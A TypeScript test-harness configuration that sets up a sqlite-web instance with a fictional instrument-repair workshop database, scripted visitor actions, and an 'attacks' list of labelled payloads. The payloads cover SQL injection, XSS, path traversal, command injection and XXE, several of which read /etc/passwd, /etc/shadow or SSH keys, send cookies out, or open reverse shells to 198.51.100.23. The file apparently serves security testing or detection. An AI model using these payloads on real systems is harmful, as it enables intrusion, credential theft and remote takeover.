import type { Application } from "../application.ts";

const makeDatabase = `
import sqlite3
db = sqlite3.connect("workshop.db")
db.executescript("""
create table customer (id integer primary key, name varchar(80) not null, town varchar(60), phone varchar(40), remark text);
create table instrument (id integer primary key, customer_id integer references customer(id), kind varchar(40) not null, maker varchar(80), built integer, serial varchar(20));
create table repair (id integer primary key, instrument_id integer references instrument(id), taken_in varchar(10), status varchar(20) default 'waiting', estimate real, description text);
create table part (code varchar(12) primary key, label varchar(80), stock integer, price real);
create index repair_status on repair(status);
create view open_repairs as select r.id, i.kind, c.name, r.status from repair r join instrument i on i.id = r.instrument_id join customer c on c.id = i.customer_id where r.status <> 'done';
""")
towns = ["Hull", "Mittenwald", "Cremona", "Saint-Gaudens", "A Coruña"]
kinds = ["violin", "accordion", "oboe", "hurdy-gurdy", "cello", "concertina"]
for i in range(1, 61):
    db.execute("insert into customer values (?,?,?,?,?)", (i, f"Customer {i}", towns[i % 5], f"+44 1632 96{i:04}", None if i % 3 else "rings before noon; don't use the bell"))
for i in range(1, 141):
    db.execute("insert into instrument values (?,?,?,?,?,?)", (i, i % 60 + 1, kinds[i % 6], ["Unsigned", "Hohner", "Lorée", "Wheatstone & Co."][i % 4], 1880 + i, f"{i * 37:05}"))
for i in range(1, 221):
    db.execute("insert into repair values (?,?,?,?,?,?)", (i, i % 140 + 1, f"2026-{i % 9 + 1:02}-{i % 27 + 1:02}", ["waiting", "on the bench", "done"][i % 3], 20 + i * 1.5, "bellows leak at the third fold"))
for i in range(1, 41):
    db.execute("insert into part values (?,?,?,?)", (f"PT-{i:03}", ["reed, brass", "peg, ebony", "pad 9 mm", "bridge blank"][i % 4], i % 12, i * 0.85))
db.commit()
`;

/** Edits a SQLite database; its visitors keep a workshop's records: they look rows up, insert and correct them, and write SQL. */
export const sqliteWeb: Application = {
  name: "sqlite-web",
  packages: { pip: ["sqlite-web==0.8.2"] },
  files: () => ({ "make.py": makeDatabase }),
  prepare: () => [["python3", "make.py"]],
  start: ({ port }) => ["sqlite_web", "-x", "-P", "-H", "127.0.0.1", "-p", String(port), "workshop.db"],
  env: { SQLITE_WEB_PASSWORD: "rosin+hideglue" },
  ready: "/login/",
  async enter(page, origin) {
    // The name of a table that somebody made stands in every later visitor's addresses, and the search among tables asks nobody.
    await page.addInitScript({
      content: `setInterval(() => {
        for (const form of document.querySelectorAll("form[action*=create-table]")) form.remove();
        for (const field of document.querySelectorAll("#table-search")) field.readOnly = true;
      }, 50)`,
    });
    await page.goto(`${origin}/login/`);
    await page.fill("#id_password", "rosin+hideglue");
    await page.click("button[type=submit]");
    await page.waitForSelector("#table-search");
  },
  // Most pages show; those that write are a tab away.
  async reach(page, random) {
    const ways = page.locator("a[href$='/insert/']:visible, a[href$='/query/']:visible, a[href*='/update/']:visible");
    const count = await ways.count();
    if (count > 0 && random.chance(0.6)) await ways.nth(random.below(count)).click({ timeout: 2_000 });
    await page.waitForTimeout(200);
    return null;
  },
  pages: [
    "/",
    "/query/",
    "/repair/content/",
    "/repair/query/",
    "/repair/insert/",
    "/customer/insert/",
    "/customer/query/",
    "/instrument/content/?ordering=3",
    "/instrument/insert/",
    "/part/insert/",
    "/customer/row/WzEyXQ==/",
    "/repair/add-index/",
    "/repair/update/WzE3XQ==/",
  ],
  // Without its tables and columns the database is of no use to the next visitor; from the pictures of the grammar no link leads back.
  avoid: /drop|delete|unload|bulk|download|add-column|rename-column|\/static\//i,
  texts: {
    searches: [
      "repair",
      "cust",
      "instr",
      "part",
      "open_rep",
      "hurdy-gurdy",
      "Wheatstone & Co.",
      "Lorée",
      "A Coruña",
      "on the bench",
      "bellows",
      "PT-017",
      "01628",
      "third fold",
      "%leak%",
      "violin 1911",
      "reed, brass",
      "pad 9 mm",
      "Saint-Gaudens",
      "don't use the bell",
      "estimate > 100",
      "status = done",
      "sqlite_sequence",
      "peg (ebony)",
      "チェロ",
    ],
    lines: [
      "Customer 61",
      "Niamh O'Dowd",
      "Käthe Brüggemann-Löw",
      "Σταύρος Κ.",
      "D'Angelo & Figli (violins)",
      "Mittenwald",
      "L'Isle-sur-la-Sorgue",
      "+49 8823 555 01",
      "waiting",
      "on the bench",
      "done",
      "2026-05-19",
      "concertina",
      "cello, 3/4",
      'oboe d\'amore "Grand-père"',
      "Lachenal; rebuilt 1931",
      "187.50",
      "24",
      "1894",
      "SN #00447/b",
      "PT-041",
      "peg, boxwood 4/4",
      "deposit_paid",
      "picked_up_on",
      "colour",
      "bridge 41mm @ 0,85 €",
      "varnish 50% shellac",
      "null",
      "バンドネオン",
      "string set (g d' a' e'')",
    ],
    long: [
      "select status, count(*) as n, round(avg(estimate), 2) as mean\nfrom repair\ngroup by status\norder by n desc;",
      "select c.name, i.kind, r.description\nfrom repair r\njoin instrument i on i.id = r.instrument_id\nleft join customer c on c.id = i.customer_id\nwhere r.status <> 'done' and r.taken_in < '2026-04-01'",
      "update repair set status = 'done' where id in (12, 13, 31)",
      "update customer set remark = 'don''t ring, she''s a night nurse' where id = 7;",
      "insert into part (code, label, stock, price) values ('PT-' || abs(random() % 9000), 'saddle, bone', 6, 4.20)",
      "delete from repair where id = 219 -- entered twice, see 218",
      "select * from part where label like 'reed%' and stock < 3 union all select * from part where price > 30",
      "with late as (\n  select instrument_id, julianday('now') - julianday(taken_in) as days from repair where status = 'waiting'\n)\nselect kind, max(days) from late join instrument on instrument.id = late.instrument_id group by kind",
      "explain query plan select * from repair where status = 'waiting' order by taken_in",
      "pragma table_info(instrument)",
      "create view if not exists cheap_parts as\n  select code, label, price from part where price < 5 /* for the counter */",
      "select case when built < 1900 then 'old' when built is null then '?' else 'newer' end as age, count(*) from instrument group by 1",
      "Left reed block lifts when it's cold (under 12 °C). Glued with fish glue; the owner's earlier \"repair\" was epoxy, 100% of it had to come off.",
      "Top seam open 7 cm on the bass side; soundpost fell over -> reset.\nNew bridge cut, 88 mm; old one is in the case (don't throw it away!).\nAgreed on the phone: <= 180 EUR, otherwise call back.",
      "bellows leak, folds 3 & 4; gussets replaced.\nTried C:\\Tuning\\concertina.tun first, A=442 sounded wrong, went back to A=440; see https://example.org/tuning?temp=1/4-comma#wolf",
      "Кларнет, трещина 4 см у верхнего стыка. Заклеить; не сверлить.",
      "She'd like it by Friday; if that isn't possible, drop her a line. Select the better of the two bows from the table in the back.",
      "alter table customer add column newsletter integer not null default 0 check (newsletter in (0, 1))",
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload:
        "done' UNION ALL SELECT 1,group_concat(name||0x3a||sql),3,4,5,6 FROM sqlite_master WHERE type='table'-- -",
    },
    {
      class: "sql_injection",
      payload: "waiting') AND 4821=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2)))) AND ('Kq'='Kq",
    },
    {
      class: "sql_injection",
      payload:
        "-5108 OR (SELECT CASE WHEN (substr((SELECT phone FROM customer LIMIT 1),1,1)='+') THEN 1 ELSE json('x') END)=1--",
    },
    { class: "sql_injection", payload: "violin'/**/oR/**/7=7/**/LIMIT/**/1/**/OFFSET/**/0;--" },
    { class: "sql_injection", payload: "1'||(SELECT hex(readfile('/etc/passwd')))||'" },
    {
      class: "sql_injection",
      payload:
        "');INSERT INTO customer(name,remark) SELECT 'x',writefile('/tmp/.s.sh','nc 198.51.100.23 4444 -e /bin/sh');--",
    },
    { class: "xss", payload: "<details open ontoggle=import('//198.51.100.23/m.js')>bow" },
    {
      class: "xss",
      payload: 'cello"><iframe srcdoc="&lt;script&gt;parent.fetch(\'/query/\')&lt;/script&gt;"></iframe>',
    },
    { class: "xss", payload: "'-top['al'+'ert'](document.domain)-'" },
    {
      class: "xss",
      payload: '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(origin)&gt;">',
    },
    { class: "xss", payload: "%3Cbody%20onpageshow%3Dlocation%3D%27%2F%2F198.51.100.23%2F%3F%27%2Bdocument.cookie%3E" },
    { class: "path_traversal", payload: "../../../../../../root/.ssh/id_rsa" },
    { class: "path_traversal", payload: "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts" },
    { class: "path_traversal", payload: "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd" },
    { class: "path_traversal", payload: "/static/../../../../../../../proc/self/cmdline%00.css" },
    { class: "command_injection", payload: "PT-041 && curl -s http://198.51.100.23/k | sh -" },
    { class: "command_injection", payload: "{{ cycler.__init__.__globals__.os.popen('cat /etc/shadow').read() }}" },
    { class: "command_injection", payload: "'+__import__('subprocess').getoutput('uname -a;id')+'" },
    { class: "command_injection", payload: "1;{nc,-e,/bin/bash,198.51.100.23,9001}" },
    {
      class: "xxe",
      payload:
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE part [<!ENTITY % dtd SYSTEM "http://198.51.100.23/p.dtd"> %dtd;]><part><label>&out;</label></part>',
    },
  ],
};
